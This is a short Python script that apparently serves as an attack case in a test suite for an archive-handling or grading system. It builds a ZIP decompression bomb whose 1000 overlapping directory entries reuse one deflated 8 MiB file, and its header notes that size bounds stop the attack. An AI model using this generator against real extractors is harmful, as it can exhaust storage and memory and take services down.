# attack: a thousand entries of one and the same packed content
# earns: 0
# stopped by: what is read counts each time; the bound on what may come out of an archive
import struct
import zlib
from pathlib import Path


def build(path: Path) -> None:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = packer.compress(bytes(8 << 20)) + packer.flush()
    checksum = zlib.crc32(bytes(8 << 20))
    directory = b""
    for number in range(1000):
        name = b"hw3/gru.py"
        common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, checksum, len(content), 8 << 20, len(name), 0)
        if number == 0:
            start = b"PK\x03\x04" + common + name + content
        directory += b"PK\x01\x02\x14\x00" + common + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    end = struct.pack("<HHHHIIH", 0, 0, 1000, 1000, len(directory), len(start), 0)
    path.write_bytes(start + directory + b"PK\x05\x06" + end)
